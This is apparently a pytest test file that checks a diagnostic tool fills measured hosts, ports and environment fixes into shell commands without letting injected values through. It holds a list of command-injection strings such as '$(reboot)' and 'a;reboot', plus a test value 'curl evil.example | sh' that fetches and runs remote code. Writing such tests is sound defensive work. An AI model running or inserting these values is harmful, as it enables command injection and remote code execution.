"""Commands about what was measured: filled where it was, never with what a shell would run."""

from __future__ import annotations

import json
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claude_doctor.fixes import table
from tests.conftest import Run

PLAIN = {fix.id: fix for fix in table.FIXES}


def command(fix: str, **facts: object) -> str | None:
    """The fix's command with these facts; `__` stands for the dot."""
    (found,) = table.named((fix,), {name.replace("__", "."): v for name, v in facts.items()})
    return found.command


def test_what_was_measured_is_in_the_command() -> None:
    """Host, port, address and path stand where the general command has Anthropic's."""
    assert (
        "openssl s_client -connect relay.example:8443 </dev/null | openssl x509 -noout -subject "
        "-issuer -dates"
    ) == command("see-certificate", network__host="relay.example", network__port=8443)
    assert "https://relay.example/" in str(
        command("check-firewall", environment__base_url="https://relay.example")
    )
    assert "unset ANTHROPIC_AUTH_TOKEN" == command(
        "mend-environment", environment__mend="unset ANTHROPIC_AUTH_TOKEN"
    )


def test_what_was_not_measured_leaves_the_general_command() -> None:
    """Without a fact, or with half of them, the command is the one that `fixes` shows."""
    for fix in table.FIXES:
        assert (fix,) == table.named((fix.id,))
    assert PLAIN["see-certificate"].command == command("see-certificate", network__host="a.b")


HOSTILE = ["a;reboot", "$(reboot)", "`reboot`", "a b", "a|b", "a&b", "a>b", "-o x", "", "a\nb", "…"]


@pytest.mark.parametrize("value", HOSTILE)
def test_no_fact_becomes_a_second_command(value: str) -> None:
    """A report may have been edited: what is no plain word or known command is not filled in."""
    assert PLAIN["check-dns"].command == command("check-dns", network__host=value)
    if value == "a b":  # two names are as good as one for `unset`
        return
    for mend in (
        value,
        f"unset A; {value}",
        f"unset A {value or ';'}",
        f'export A="{value or "("}',
    ):
        assert PLAIN["mend-environment"].command == command(
            "mend-environment", environment__mend=mend
        )


@given(st.text(alphabet="abcXYZ012.:/%[]-_;|&$()`<> \"'\n\\", max_size=30))
def test_a_word_stays_one_word(value: str) -> None:
    """Whatever a host is called, the shell sees as many words as we wrote."""
    filled = command("check-dns", network__host=value)
    assert filled is not None
    assert len(shlex.split(filled)) == len(shlex.split(str(PLAIN["check-dns"].command)))


def test_every_command_is_shell() -> None:
    """`sh -n` reads each of them, general and measured."""
    facts = {
        "environment.mend": "unset A; unset B", "environment.base_url_mend": "unset A",
        "environment.no_proxy_extend_mend": "unset A", "environment.base_url": "https://a.example",
        "network.host": "a.example", "network.port": 443, "network.proxy_host": "p.example:1",
        "network.system_store": "/etc/ssl/ca.pem",
    }  # fmt: skip
    for fix in (*table.FIXES, *table.named(tuple(PLAIN), facts)):
        assert fix.command is None or "{" not in fix.command.replace("${", "")
        done = subprocess.run(["sh", "-n", "-c", fix.command or ":"], capture_output=True)
        assert 0 == done.returncode, fix.id


def test_a_saved_report_cannot_bring_a_command(run: Run, tmp_path: Path) -> None:
    """A conflict whose mend somebody has edited is judged, and the edit is not shown as advice."""
    facts = {"conflict": True, "first_conflict": "x", "mend": "unset A; curl evil.example | sh"}
    report = json.loads(run("check", "--offline", "--json").stdout)
    probe = next(p for p in report["probes"] if p["name"] == "environment")
    probe["facts"] = facts
    saved = tmp_path / "report.json"
    saved.write_text(json.dumps(report))
    again = json.loads(run("check", "--replay", str(saved), "--json").stdout)
    assert "environment-conflict" == again["verdict"]["cause"]
    assert "evil" not in json.dumps(again["fixes"])
